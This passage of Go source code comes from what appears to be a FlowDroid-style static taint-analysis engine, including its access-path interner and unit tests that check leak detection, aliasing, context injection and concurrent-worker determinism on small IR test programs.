	r1 := e.sourceRecord(stmts[0], src)
	r2 := e.sourceRecord(stmts[0], src)
	if r1 != r2 {
		t.Error("same (stmt, rule) produced distinct SourceRecords; abstraction identity depends on evaluation count")
	}
	if r1.Stmt != stmts[0] || r1.Source != src {
		t.Errorf("record fields lost: %+v", r1)
	}
	if e.sourceRecord(stmts[1], src) == r1 {
		t.Error("distinct statements share a SourceRecord")
	}
	other := src
	other.Label = "t"
	if e.sourceRecord(stmts[0], other) == r1 {
		t.Error("distinct rules share a SourceRecord")
	}

	// The downstream property the interner exists for: re-evaluating the
	// same source must not inflate the abstraction interner.
	before := e.ai.size()
	a1 := e.ai.get(nil, true, nil, e.sourceRecord(stmts[0], src), nil, stmts[0])
	mid := e.ai.size()
	a2 := e.ai.get(nil, true, nil, e.sourceRecord(stmts[0], src), nil, stmts[0])
	if a1 != a2 {
		t.Error("re-evaluated source produced a distinct abstraction")
	}
	if after := e.ai.size(); after != mid || mid != before+1 {
		t.Errorf("interner sizes %d -> %d -> %d, want exactly one new abstraction", before, mid, after)
	}
}

// TestSourceRecordInterningConcurrent: concurrent evaluations racing on
// the same sources must still converge to one record per key.
func TestSourceRecordInterningConcurrent(t *testing.T) {
	stmts := mainStmts(t, manyLeaks)
	e := newEngine(nil, nil, Config{APLength: 5})
	src := sourcesink.Source{Class: "Src", Name: "get"}

	const goroutines = 8
	recs := make([][]*SourceRecord, goroutines)
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			recs[g] = make([]*SourceRecord, len(stmts))
			for i, n := range stmts {
				recs[g][i] = e.sourceRecord(n, src)
			}
		}(g)
	}
	wg.Wait()
	for g := 1; g < goroutines; g++ {
		for i := range stmts {
			if recs[g][i] != recs[0][i] {
				t.Fatalf("goroutine %d got a different record for stmt %d", g, i)
			}
		}
	}
	e.srcMu.Lock()
	n := len(e.srcRecs)
	e.srcMu.Unlock()
	if n != len(stmts) {
		t.Errorf("interner holds %d records, want %d (one per key)", n, len(stmts))
	}
}

// TestAbsInternerConcurrentExactness: N goroutines interning an
// overlapping key set must leave size() equal to the number of distinct
// keys — the double-checked insert can never double-count, so
// PeakAbstractions is exact under Workers > 1.
func TestAbsInternerConcurrentExactness(t *testing.T) {
	stmts := mainStmts(t, manyLeaks)
	e := newEngine(nil, nil, Config{APLength: 5})
	srcs := []*SourceRecord{nil, {}, {}}

	type k struct {
		active bool
		act    int
		src    int
	}
	var keys []k
	for _, active := range []bool{true, false} {
		for ai := range stmts {
			for si := range srcs {
				keys = append(keys, k{active, ai, si})
			}
		}
	}

	base := e.ai.size() // the engine's zero abstraction
	const goroutines = 8
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			// Each goroutine walks the keys at a different stride so the
			// racing pairs differ between goroutines.
			for i := range keys {
				kk := keys[(i*(g+1))%len(keys)]
				e.ai.get(nil, kk.active, stmts[kk.act], srcs[kk.src], nil, nil)
			}
		}(g)
	}
	wg.Wait()

	distinct := make(map[k]bool)
	for _, kk := range keys {
		distinct[kk] = true
	}
	want := base + len(distinct)
	// The zero abstraction is (nil, true, nil, nil): stmts[i] is never
	// nil, so no key above collides with it.
	if got := e.ai.size(); got != want {
		t.Errorf("interner size = %d after concurrent interning, want exactly %d", got, want)
	}
}
