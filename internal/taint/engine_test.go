package taint

import (
	"context"
	"strings"
	"testing"

	"flowdroid/internal/cfg"
	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/pta"
	"flowdroid/internal/sourcesink"
)

// stubs declares the source/sink endpoints shared by the test programs.
const stubs = `
class Src {
  static method secret(): java.lang.String;
}
class Snk {
  static method leak(x: java.lang.String): void;
  static method leakObj(x: java.lang.Object): void;
}
`

const testRules = `
source <Src: secret/0> -> return label secret
sink <Snk: leak/1> -> arg0 label leak
sink <Snk: leakObj/1> -> arg0 label leak
`

// analyze runs the engine on a program given as IR text; the entry point
// is Main.main/0.
func analyze(t *testing.T, src string, conf Config) *Results {
	t.Helper()
	prog := framework.NewProgram()
	if err := irtext.ParseInto(prog, stubs+src, "test.ir"); err != nil {
		t.Fatal(err)
	}
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	main := prog.Class("Main").Method("main", 0)
	if main == nil {
		t.Fatal("Main.main/0 not found")
	}
	res := pta.Build(context.Background(), prog, main)
	icfg := cfg.NewICFG(prog, res.Graph)
	mgr, err := sourcesink.Parse(prog, testRules)
	if err != nil {
		t.Fatal(err)
	}
	return Analyze(context.Background(), icfg, mgr, conf, main)
}

// leakLines returns the source line numbers of the sink statements of all
// distinct leaks.
func leakLines(r *Results) []int {
	var out []int
	for _, l := range r.DistinctSourceSinkPairs() {
		out = append(out, l.Sink.Line())
	}
	return out
}

func hasLeakAtLine(r *Results, line int) bool {
	for _, l := range leakLines(r) {
		if l == line {
			return true
		}
	}
	return false
}

// lineOf finds the line of the i-th call to the named method in the
// program text (1-based line numbers as the parser records them).
func lineOfCall(src, needle string, occurrence int) int {
	lines := strings.Split(stubs+src, "\n")
	count := 0
	for i, l := range lines {
		if strings.Contains(l, needle) {
			count++
			if count == occurrence {
				return i + 1
			}
		}
	}
	return -1
}

// --- Listing 2: context injection -----------------------------------------

const listing2 = `
class Data {
  field f: java.lang.String
  method init(): void {
    return
  }
}
class Main {
  static method taintIt(in: java.lang.String, out: Data): void {
    x = out
    x.f = in
    t = out.f
    Snk.leak(t)                    // sink A: leaks only for tainted call
  }
  static method main(): void {
    p = new Data()
    p2 = new Data()
    s = Src.secret()
    Main.taintIt(s, p)
    t1 = p.f
    Snk.leak(t1)                   // sink B: real leak
    pub = "public"
    Main.taintIt(pub, p2)
    t2 = p2.f
    Snk.leak(t2)                   // sink C: must stay clean
  }
}
`

func TestListing2ContextInjection(t *testing.T) {
	r := analyze(t, listing2, DefaultConfig())
	sinkA := lineOfCall(listing2, "sink A", 1)
	sinkB := lineOfCall(listing2, "sink B", 1)
	sinkC := lineOfCall(listing2, "sink C", 1)
	if !hasLeakAtLine(r, sinkA) {
		t.Errorf("missed leak at sink A (line %d); leaks at %v", sinkA, leakLines(r))
	}
	if !hasLeakAtLine(r, sinkB) {
		t.Errorf("missed leak at sink B (line %d); leaks at %v", sinkB, leakLines(r))
	}
	if hasLeakAtLine(r, sinkC) {
		t.Errorf("false positive at sink C (line %d): context injection failed", sinkC)
	}
}

func TestListing2NaiveContextFalsePositive(t *testing.T) {
	// With context injection disabled (the naive dotted-edge spawning of
	// Figure 3), the backward analysis runs under the tautological
	// context, so the alias found in taintIt pollutes the clean call as
	// well: the false positive at sink C appears, exactly as the paper's
	// Figure 3 predicts.
	conf := DefaultConfig()
	conf.InjectContext = false
	r := analyze(t, listing2, conf)
	sinkB := lineOfCall(listing2, "sink B", 1)
	sinkC := lineOfCall(listing2, "sink C", 1)
	if !hasLeakAtLine(r, sinkB) {
		t.Errorf("naive mode should still find the real leak at line %d", sinkB)
	}
	if !hasLeakAtLine(r, sinkC) {
		t.Errorf("naive mode should produce the Figure 3 false positive at line %d; got %v",
			sinkC, leakLines(r))
	}
}

// --- Listing 3: activation statements --------------------------------------

const listing3 = `
class Data {
  field f: java.lang.String
  method init(): void {
    return
  }
}
class Main {
  static method main(): void {
    p = new Data()
    p2 = p
    t1 = p2.f
    Snk.leak(t1)                   // sink early: before the taint exists
    s = Src.secret()
    p.f = s
    t2 = p2.f
    Snk.leak(t2)                   // sink late: real leak via alias
  }
}
`

func TestListing3ActivationStatements(t *testing.T) {
	r := analyze(t, listing3, DefaultConfig())
	early := lineOfCall(listing3, "sink early", 1)
	late := lineOfCall(listing3, "sink late", 1)
	if hasLeakAtLine(r, early) {
		t.Errorf("flow-insensitive false positive at line %d (activation failed)", early)
	}
	if !hasLeakAtLine(r, late) {
		t.Errorf("missed aliased leak at line %d; leaks at %v", late, leakLines(r))
	}
}

func TestListing3AndromedaMode(t *testing.T) {
	// Without activation statements (Andromeda-style aliasing), the alias
	// p2.f is tainted unconditionally and the early sink becomes a false
	// positive — exactly the imprecision the paper fixes.
	conf := DefaultConfig()
	conf.EnableActivation = false
	r := analyze(t, listing3, conf)
	early := lineOfCall(listing3, "sink early", 1)
	late := lineOfCall(listing3, "sink late", 1)
	if !hasLeakAtLine(r, early) {
		t.Errorf("Andromeda mode should report the early sink at line %d", early)
	}
	if !hasLeakAtLine(r, late) {
		t.Errorf("Andromeda mode should still report the late sink at line %d", late)
	}
}

// --- Figure 2: aliasing through calls --------------------------------------

const figure2 = `
class A {
  field g: Data
  method init(): void {
    return
  }
}
class Data {
  field f: java.lang.String
  method init(): void {
    return
  }
}
class Main {
  static method foo(z: A): void {
    x = z.g
    w = Src.secret()
    x.f = w
  }
  static method main(): void {
    a = new A()
    d = new Data()
    a.g = d
    b = a.g
    Main.foo(a)
    t = b.f
    Snk.leak(t)                    // sink D: leak through deep alias
  }
}
`

func TestFigure2DeepAliasing(t *testing.T) {
	r := analyze(t, figure2, DefaultConfig())
	sinkD := lineOfCall(figure2, "sink D", 1)
	if !hasLeakAtLine(r, sinkD) {
		t.Errorf("missed the Figure 2 alias leak at line %d; leaks at %v", sinkD, leakLines(r))
	}
	if r.Stats.AliasQueries == 0 {
		t.Error("alias solver was never consulted")
	}
}

func TestFigure2NoAliasingMisses(t *testing.T) {
	conf := DefaultConfig()
	conf.EnableAliasing = false
	r := analyze(t, figure2, conf)
	sinkD := lineOfCall(figure2, "sink D", 1)
	if hasLeakAtLine(r, sinkD) {
		t.Errorf("aliasing disabled but alias leak still reported — ablation broken")
	}
}

// --- basics -----------------------------------------------------------------

const basics = `
class User {
  field name: java.lang.String
  field pwd: java.lang.String
  method init(n: java.lang.String, p: java.lang.String): void {
    this.name = n
    this.pwd = p
  }
  method getName(): java.lang.String {
    r = this.name
    return r
  }
  method getPwd(): java.lang.String {
    r = this.pwd
    return r
  }
}
class Main {
  static method main(): void {
    s = Src.secret()
    Snk.leak(s)                    // direct leak
    n = "alice"
    u = new User(n, s)
    t1 = u.getName()
    Snk.leak(t1)                   // clean: name field untainted
    t2 = u.getPwd()
    Snk.leak(t2)                   // field leak
    v = "overwritten"
    s = v
    Snk.leak(s)                    // clean: strong update on local
    return
  }
}
`

func TestBasicsFieldSensitivity(t *testing.T) {
	r := analyze(t, basics, DefaultConfig())
	direct := lineOfCall(basics, "direct leak", 1)
	clean1 := lineOfCall(basics, "clean: name field", 1)
	fieldLeak := lineOfCall(basics, "field leak", 1)
	clean2 := lineOfCall(basics, "clean: strong update", 1)
	if !hasLeakAtLine(r, direct) {
		t.Errorf("missed direct leak (line %d); got %v", direct, leakLines(r))
	}
	if hasLeakAtLine(r, clean1) {
		t.Errorf("field-insensitive false positive at line %d", clean1)
	}
	if !hasLeakAtLine(r, fieldLeak) {
		t.Errorf("missed field leak (line %d); got %v", fieldLeak, leakLines(r))
	}
	if hasLeakAtLine(r, clean2) {
		t.Errorf("strong update failed: false positive at line %d", clean2)
	}
}

func TestFieldInsensitiveAblation(t *testing.T) {
	conf := DefaultConfig()
	conf.FieldSensitive = false
	r := analyze(t, basics, conf)
	clean1 := lineOfCall(basics, "clean: name field", 1)
	if !hasLeakAtLine(r, clean1) {
		t.Errorf("field-insensitive mode should taint the whole User object (line %d)", clean1)
	}
}

// --- object sensitivity ------------------------------------------------------

const objectSensitivity = `
class Holder {
  field v: java.lang.String
  method init(): void {
    return
  }
  method set(s: java.lang.String): void {
    this.v = s
  }
  method get(): java.lang.String {
    r = this.v
    return r
  }
}
class Main {
  static method main(): void {
    h1 = new Holder()
    h2 = new Holder()
    s = Src.secret()
    pub = "public"
    h1.set(s)
    h2.set(pub)
    t1 = h1.get()
    Snk.leak(t1)                   // tainted holder
    t2 = h2.get()
    Snk.leak(t2)                   // clean holder
    return
  }
}
`

func TestObjectSensitivity(t *testing.T) {
	r := analyze(t, objectSensitivity, DefaultConfig())
	tainted := lineOfCall(objectSensitivity, "tainted holder", 1)
	clean := lineOfCall(objectSensitivity, "clean holder", 1)
	if !hasLeakAtLine(r, tainted) {
		t.Errorf("missed leak via tainted holder (line %d); got %v", tainted, leakLines(r))
	}
	if hasLeakAtLine(r, clean) {
		t.Errorf("object-insensitive false positive at line %d", clean)
	}
}

// --- interprocedural returns and wrappers ------------------------------------

const wrapperProg = `
class Main {
  static method main(): void {
    s = Src.secret()
    sb = new java.lang.StringBuilder()
    sb.append("hello")
    sb.append(s)
    msg = sb.toString()
    Snk.leak(msg)                  // leak through StringBuilder
    lst = new java.util.ArrayList()
    lst.add(s)
    o = lst.get(0)
    local o2: java.lang.Object
    o2 = o
    Snk.leakObj(o2)                // leak through collection
    clean = new java.util.ArrayList()
    c = clean.get(0)
    local c2: java.lang.Object
    c2 = c
    Snk.leakObj(c2)                // clean collection
    return
  }
}
`

func TestWrapperFlows(t *testing.T) {
	r := analyze(t, wrapperProg, DefaultConfig())
	sbLeak := lineOfCall(wrapperProg, "leak through StringBuilder", 1)
	colLeak := lineOfCall(wrapperProg, "leak through collection", 1)
	clean := lineOfCall(wrapperProg, "clean collection", 1)
	if !hasLeakAtLine(r, sbLeak) {
		t.Errorf("missed StringBuilder leak (line %d); got %v", sbLeak, leakLines(r))
	}
	if !hasLeakAtLine(r, colLeak) {
		t.Errorf("missed collection leak (line %d); got %v", colLeak, leakLines(r))
	}
	if hasLeakAtLine(r, clean) {
		t.Errorf("false positive on clean collection (line %d)", clean)
	}
}

// --- leak metadata ------------------------------------------------------------

func TestLeakMetadataAndPath(t *testing.T) {
	r := analyze(t, basics, DefaultConfig())
	if len(r.Leaks) == 0 {
		t.Fatal("no leaks")
	}
	leaks := r.DistinctSourceSinkPairs()
	for _, l := range leaks {
		if l.Source() == nil || l.Source().Stmt == nil {
			t.Fatalf("leak without source record: %v", l)
		}
		if l.Source().Source.Label != "secret" {
			t.Errorf("source label = %q", l.Source().Source.Label)
		}
		path := l.Path()
		if len(path) < 2 {
			t.Errorf("path too short for %v: %v", l, path)
		}
		if path[len(path)-1] != l.Sink {
			t.Errorf("path should end at the sink")
		}
	}
	if !strings.Contains(r.Render(), "leak(s) found") {
		t.Errorf("Render output malformed: %q", r.Render())
	}
}

// Direct test of access-path machinery.
func TestAccessPathInterning(t *testing.T) {
	in := newInterner(3)
	x := &ir.Local{Name: "x"}
	y := &ir.Local{Name: "y"}
	cls := ir.NewClass("C", "")
	f1, _ := cls.AddField("f1", ir.Ref("C"), false)
	f2, _ := cls.AddField("f2", ir.Ref("C"), false)
	f3, _ := cls.AddField("f3", ir.Ref("C"), false)
	f4, _ := cls.AddField("f4", ir.Ref("C"), false)

	a := in.local(x, f1, f2)
	b := in.local(x, f1, f2)
	if a != b {
		t.Error("interning broken: equal paths not pointer-equal")
	}
	if in.local(y, f1, f2) == a {
		t.Error("different bases interned equal")
	}
	// Truncation at max length 3.
	long := in.local(x, f1, f2, f3, f4)
	if len(long.Fields) != 3 {
		t.Errorf("truncation failed: %d fields", len(long.Fields))
	}
	if long.String() != "x.f1.f2.f3" {
		t.Errorf("String = %q", long.String())
	}
	// Rebase keeps the suffix.
	r := in.rebase(a, y)
	if r.Base != y || len(r.Fields) != 2 {
		t.Errorf("rebase = %v", r)
	}
	// loadSuffix semantics.
	if s, ok := loadSuffix(a, x, f1); !ok || len(s) != 1 || s[0] != f2 {
		t.Errorf("loadSuffix(x.f1.f2, x, f1) = %v, %v", s, ok)
	}
	whole := in.local(x)
	if _, ok := loadSuffix(whole, x, f1); !ok {
		t.Error("whole-object taint should cover any field read")
	}
	if _, ok := loadSuffix(a, x, f3); ok {
		t.Error("mismatched field should not be covered")
	}
}
