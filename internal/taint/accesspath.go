// Package taint implements FlowDroid's core contribution: a fully
// context-, flow-, field- and object-sensitive taint analysis built from
// two cooperating IFDS solvers — a forward taint solver (Algorithm 1 of
// the paper) and an on-demand backward alias solver (Algorithm 2) — with
// context injection between them and activation statements preserving flow
// sensitivity.
package taint

import (
	"encoding/binary"
	"strings"
	"sync"
	"unsafe"

	"flowdroid/internal/ir"
)

// AccessPath is "x.f.g": a root (a local variable or a static field) plus
// a bounded chain of field dereferences. Following the paper, an access
// path implicitly describes all objects reachable through it: x.f covers
// x.f.g, x.f.h and so on. Paths longer than the configured maximum are
// truncated, which widens them (a sound over-approximation).
//
// AccessPaths are interned per engine; equality is pointer equality.
type AccessPath struct {
	// Base is the root local; nil when the root is a static field.
	Base *ir.Local
	// StaticRoot is the static field root; nil when Base is set.
	StaticRoot *ir.Field
	// Fields is the dereference chain, at most the engine's APLength.
	Fields []*ir.Field
}

// String renders the access path, e.g. "u.user.pwd" or "App.cache.f".
func (ap *AccessPath) String() string {
	var sb strings.Builder
	if ap.Base != nil {
		sb.WriteString(ap.Base.Name)
	} else if ap.StaticRoot != nil {
		sb.WriteString(ap.StaticRoot.Class.Name + "." + ap.StaticRoot.Name)
	}
	for _, f := range ap.Fields {
		sb.WriteString("." + f.Name)
	}
	return sb.String()
}

// IsStatic reports whether the path is rooted in a static field.
func (ap *AccessPath) IsStatic() bool { return ap.StaticRoot != nil }

// interner deduplicates access paths so the solvers can use pointer
// equality in their fact maps. It is safe for concurrent use; the key is
// built outside the lock so the critical sections stay short.
type interner struct {
	maxLen int
	mu     sync.RWMutex
	paths  map[string]*AccessPath
}

func newInterner(maxLen int) *interner {
	return &interner{maxLen: maxLen, paths: make(map[string]*AccessPath)}
}

// intern returns the canonical path for key k, building it with mk when
// absent. Double-checked under the RWMutex: the common hit path takes
// only the read lock. k is a scratch byte key; the map lookups via
// string(k) compile to allocation-free probes, and the key is cloned to a
// real string only when a new entry is inserted.
func (in *interner) intern(k []byte, mk func() *AccessPath) *AccessPath {
	in.mu.RLock()
	ap, ok := in.paths[string(k)]
	in.mu.RUnlock()
	if ok {
		return ap
	}
	in.mu.Lock()
	defer in.mu.Unlock()
	if ap, ok := in.paths[string(k)]; ok {
		return ap
	}
	ap = mk()
	in.paths[string(k)] = ap
	return ap
}

// size is the number of distinct access paths interned so far.
func (in *interner) size() int {
	in.mu.RLock()
	defer in.mu.RUnlock()
	return len(in.paths)
}

// keyScratch is the stack buffer key() fills: a tag byte plus one 8-byte
// pointer per component covers the root and the default path lengths
// without spilling; longer paths fall back to an append that may heap-
// allocate, which only affects interner misses on unusually deep configs.
type keyScratch [1 + 8*9]byte

// key builds the identity of a path — the root pointer plus the field
// pointers, tagged by root kind — into buf. The previous implementation
// rendered pointers with fmt ("L%p.%p..."), which allocated on every
// lookup; the binary form in a caller-provided scratch buffer keeps the
// hot interner probes allocation-free.
func (in *interner) key(buf []byte, base *ir.Local, static *ir.Field, fields []*ir.Field) []byte {
	if base != nil {
		buf = append(buf, 'L')
		buf = binary.LittleEndian.AppendUint64(buf, uint64(uintptr(unsafe.Pointer(base))))
	} else {
		buf = append(buf, 'S')
		buf = binary.LittleEndian.AppendUint64(buf, uint64(uintptr(unsafe.Pointer(static))))
	}
	for _, f := range fields {
		buf = binary.LittleEndian.AppendUint64(buf, uint64(uintptr(unsafe.Pointer(f))))
	}
	return buf
}

// local interns the path base.fields, truncating to the maximum length.
func (in *interner) local(base *ir.Local, fields ...*ir.Field) *AccessPath {
	if len(fields) > in.maxLen {
		fields = fields[:in.maxLen]
	}
	var scratch keyScratch
	k := in.key(scratch[:0], base, nil, fields)
	return in.intern(k, func() *AccessPath {
		return &AccessPath{Base: base, Fields: append([]*ir.Field(nil), fields...)}
	})
}

// static interns the path StaticRoot.fields.
func (in *interner) static(root *ir.Field, fields ...*ir.Field) *AccessPath {
	if len(fields) > in.maxLen {
		fields = fields[:in.maxLen]
	}
	var scratch keyScratch
	k := in.key(scratch[:0], nil, root, fields)
	return in.intern(k, func() *AccessPath {
		return &AccessPath{StaticRoot: root, Fields: append([]*ir.Field(nil), fields...)}
	})
}

// rebase re-roots the path onto a new local, keeping the field suffix:
// mapping x.F to y.F for parameter passing and copies.
func (in *interner) rebase(ap *AccessPath, newBase *ir.Local) *AccessPath {
	return in.local(newBase, ap.Fields...)
}

// appendField builds root.f.F from a path rooted at f's holder: storing
// y (with suffix F) into x.f yields x.f.F.
func (in *interner) appendField(base *ir.Local, f *ir.Field, suffix []*ir.Field) *AccessPath {
	fields := make([]*ir.Field, 0, len(suffix)+1)
	fields = append(fields, f)
	fields = append(fields, suffix...)
	return in.local(base, fields...)
}

// appendStatic builds C.s.F for a store into static field s.
func (in *interner) appendStatic(root *ir.Field, suffix []*ir.Field) *AccessPath {
	return in.static(root, suffix...)
}

// loadSuffix answers whether reading base.field yields a tainted value
// under ap, and with which residual suffix: ap = base (whole object) or
// ap = base.field.F both make the read tainted (suffix F, possibly
// empty); ap = base.other does not.
func loadSuffix(ap *AccessPath, base *ir.Local, field *ir.Field) ([]*ir.Field, bool) {
	if ap.Base != base {
		return nil, false
	}
	if len(ap.Fields) == 0 {
		// Whole object tainted: everything reachable is tainted.
		return nil, true
	}
	if ap.Fields[0] == field {
		return ap.Fields[1:], true
	}
	return nil, false
}

// loadStaticSuffix is loadSuffix for static roots.
func loadStaticSuffix(ap *AccessPath, root *ir.Field) ([]*ir.Field, bool) {
	if ap.StaticRoot != root {
		return nil, false
	}
	return ap.Fields, true
}

// rootedAt reports whether ap is rooted at the given local (any suffix):
// the object held by the local contains or is tainted data.
func rootedAt(ap *AccessPath, l *ir.Local) bool { return ap.Base == l }
