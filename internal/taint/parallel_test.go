package taint

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
)

// mainStmts parses a program and returns Main.main's statements, for
// whitebox tests that drive the engine's propagation layer directly.
func mainStmts(t *testing.T, src string) []ir.Stmt {
	t.Helper()
	prog := framework.NewProgram()
	if err := irtext.ParseInto(prog, stubs+src, "whitebox.ir"); err != nil {
		t.Fatal(err)
	}
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	m := prog.Class("Main").Method("main", 0)
	if m == nil {
		t.Fatal("Main.main/0 not found")
	}
	return m.Body()
}

// TestDuplicateEdgeConsumesNoBudget is the regression test for the budget
// accounting fix: re-propagating a path edge the jump table already holds
// must not charge MaxPropagations (matching ifds.Solver.propagate, which
// counts novel insertions only).
func TestDuplicateEdgeConsumesNoBudget(t *testing.T) {
	stmts := mainStmts(t, manyLeaks)
	e := newEngine(nil, nil, Config{APLength: 5, MaxPropagations: 100})

	e.fwPropagate(e.zero, stmts[0], e.zero)
	if got := e.stats.propagations.Load(); got != 1 {
		t.Fatalf("first forward edge: propagations = %d, want 1", got)
	}
	e.fwPropagate(e.zero, stmts[0], e.zero) // exact duplicate
	if got := e.stats.propagations.Load(); got != 1 {
		t.Errorf("duplicate forward edge charged the budget: propagations = %d, want 1", got)
	}

	e.bwPropagate(e.zero, stmts[0], e.zero)
	e.bwPropagate(e.zero, stmts[0], e.zero) // exact duplicate
	if got := e.stats.propagations.Load(); got != 2 {
		t.Errorf("duplicate backward edge charged the budget: propagations = %d, want 2", got)
	}

	e.q.mu.Lock()
	queued := len(e.q.items)
	e.q.mu.Unlock()
	if queued != 2 {
		t.Errorf("queue holds %d items, want 2 (duplicates must not be re-enqueued)", queued)
	}
}

// TestBudgetStopsOnCrossing: the insertion that reaches MaxPropagations
// records BudgetExhausted and is not enqueued; later insertions are also
// refused.
func TestBudgetStopsOnCrossing(t *testing.T) {
	stmts := mainStmts(t, manyLeaks)
	if len(stmts) < 4 {
		t.Fatalf("fixture too small: %d stmts", len(stmts))
	}
	e := newEngine(nil, nil, Config{APLength: 5, MaxPropagations: 3})
	for _, n := range stmts[:4] {
		e.fwPropagate(e.zero, n, e.zero)
	}
	if st := e.q.finalStatus(); st != BudgetExhausted {
		t.Errorf("status = %v, want BudgetExhausted", st)
	}
	e.q.mu.Lock()
	queued := len(e.q.items)
	e.q.mu.Unlock()
	if queued >= 3 {
		t.Errorf("queue holds %d items, want < 3 (the crossing edge must not be enqueued)", queued)
	}
}

// TestLeakLimitReachedStatus: the MaxLeaks cap must be visible in the
// run's status, with exactly the cap's worth of leaks recorded; an
// uncapped run still reports Completed.
func TestLeakLimitReachedStatus(t *testing.T) {
	conf := DefaultConfig()
	conf.MaxLeaks = 2
	r := analyze(t, manyLeaks, conf)
	if r.Status != LeakLimitReached {
		t.Errorf("capped run status = %v, want LeakLimitReached", r.Status)
	}
	if len(r.Leaks) != 2 {
		t.Errorf("capped run recorded %d leaks, want exactly 2", len(r.Leaks))
	}
	full := analyze(t, manyLeaks, DefaultConfig())
	if full.Status != Completed {
		t.Errorf("uncapped run status = %v, want Completed", full.Status)
	}
}

// TestReportOrderIsCanonical: the distinct report must not depend on the
// order leaks were discovered in — reversing the raw leak slice changes
// nothing — and must come out sorted by the canonical key.
func TestReportOrderIsCanonical(t *testing.T) {
	r := analyze(t, manyLeaks, DefaultConfig())
	if len(r.Leaks) < 2 {
		t.Fatalf("fixture found %d leaks, need >= 2", len(r.Leaks))
	}
	base, err := r.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	for i, j := 0, len(r.Leaks)-1; i < j; i, j = i+1, j-1 {
		r.Leaks[i], r.Leaks[j] = r.Leaks[j], r.Leaks[i]
	}
	rev, err := r.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(base, rev) {
		t.Errorf("report depends on leak discovery order:\n%s\nvs\n%s", base, rev)
	}
	pairs := r.DistinctSourceSinkPairs()
	for i := 1; i < len(pairs); i++ {
		if leakOrdOf(pairs[i]).less(leakOrdOf(pairs[i-1])) {
			t.Errorf("pairs[%d] and pairs[%d] out of canonical order", i-1, i)
		}
	}
}

// TestWorkerPanicIsCapturedOnCaller: a panic raised on a worker
// goroutine must not crash the process. drainParallel re-raises the
// first worker panic — with the worker's own stack attached — on the
// calling goroutine after the pool has shut down, so the callers' usual
// recovery (pipeline stage guard, corpus batch isolation) converts it
// into a Recovered result exactly as in the sequential path.
func TestWorkerPanicIsCapturedOnCaller(t *testing.T) {
	stmts := mainStmts(t, manyLeaks)
	e := newEngine(nil, nil, Config{APLength: 5})
	// The engine's icfg is nil, so processing any forward task nil-derefs
	// inside processForward — i.e. panics on a worker goroutine.
	e.fwPropagate(e.zero, stmts[0], e.zero)

	rec := func() (r any) {
		defer func() { r = recover() }()
		e.drainParallel(context.Background(), 4)
		return nil
	}()
	wp, ok := rec.(*workerPanic)
	if !ok {
		t.Fatalf("recovered %v (%T), want *workerPanic re-raised on the caller", rec, rec)
	}
	if wp.val == nil {
		t.Error("workerPanic lost the original panic value")
	}
	if len(wp.stack) == 0 {
		t.Error("workerPanic lost the worker's stack")
	}
	if msg := wp.Error(); !strings.Contains(msg, "worker panic") {
		t.Errorf("workerPanic.Error() = %q, want it to identify a worker panic", msg)
	}
}

// valueStmt implements ir.Stmt as a non-pointer type (embedding
// *ir.StmtBase promotes the interface methods onto the value type) —
// the shape stmtShard's pointer fast path cannot handle.
type valueStmt struct{ *ir.StmtBase }

func (valueStmt) String() string { return "valueStmt" }

// TestStmtShardNonPointerStmt: sharding must not panic for a
// non-pointer ir.Stmt implementation, and the jump table must still
// insert and dedup it.
func TestStmtShardNonPointerStmt(t *testing.T) {
	var s ir.Stmt = valueStmt{&ir.StmtBase{}}
	if sh := stmtShard(s); sh >= jumpShards {
		t.Fatalf("stmtShard = %d, want < %d", sh, jumpShards)
	}
	jt := newJumpTable()
	if !jt.insert(s, edge{}) {
		t.Error("first insert of a non-pointer stmt not novel")
	}
	if jt.insert(s, edge{}) {
		t.Error("duplicate insert of a non-pointer stmt reported novel")
	}
}

// TestAbortStopsAccounting: once the queue is stopped, further
// propagations must not grow the edge or propagation counters — the
// budget cannot be overrun by work discovered after the abort.
func TestAbortStopsAccounting(t *testing.T) {
	stmts := mainStmts(t, manyLeaks)
	if len(stmts) < 2 {
		t.Fatalf("fixture too small: %d stmts", len(stmts))
	}
	e := newEngine(nil, nil, Config{APLength: 5, MaxPropagations: 100})
	e.fwPropagate(e.zero, stmts[0], e.zero)
	e.q.stop(BudgetExhausted)
	e.fwPropagate(e.zero, stmts[1], e.zero)
	e.bwPropagate(e.zero, stmts[1], e.zero)
	if got := e.stats.propagations.Load(); got != 1 {
		t.Errorf("propagations after abort = %d, want 1", got)
	}
	if fw, bw := e.stats.forwardEdges.Load(), e.stats.backwardEdges.Load(); fw != 1 || bw != 0 {
		t.Errorf("edges after abort = fw %d/bw %d, want fw 1/bw 0", fw, bw)
	}
}

// TestWorkerCountEquivalence: every edge-case fixture must produce a
// byte-identical canonical report and identical novel-edge counts at 1, 2
// and 8 workers — the exploded-supergraph closure is confluent, so the
// fact sets cannot depend on the schedule.
func TestWorkerCountEquivalence(t *testing.T) {
	fixtures := map[string]string{
		"listing2":         listing2,
		"staticFlow":       staticFlow,
		"recursiveHeap":    recursiveHeap,
		"deepChain":        deepChain,
		"manyLeaks":        manyLeaks,
		"listInField":      listInField,
		"calleeReads":      calleeReads,
		"arrayThroughCall": arrayThroughCall,
		"killFlow":         killFlow,
		"sinkViaObjectArg": sinkViaObjectArg,
		"twoSources":       twoSources,
	}
	for name, src := range fixtures {
		t.Run(name, func(t *testing.T) {
			var baseJSON []byte
			var baseStats Stats
			for _, w := range []int{1, 2, 8} {
				conf := DefaultConfig()
				conf.Workers = w
				r := analyze(t, src, conf)
				if r.Status != Completed {
					t.Fatalf("workers=%d: status %v", w, r.Status)
				}
				if r.Stats.Workers != w {
					t.Errorf("workers=%d: Stats.Workers = %d", w, r.Stats.Workers)
				}
				if r.Stats.Propagations != r.Stats.ForwardEdges+r.Stats.BackwardEdges {
					t.Errorf("workers=%d: propagations %d != forward %d + backward %d",
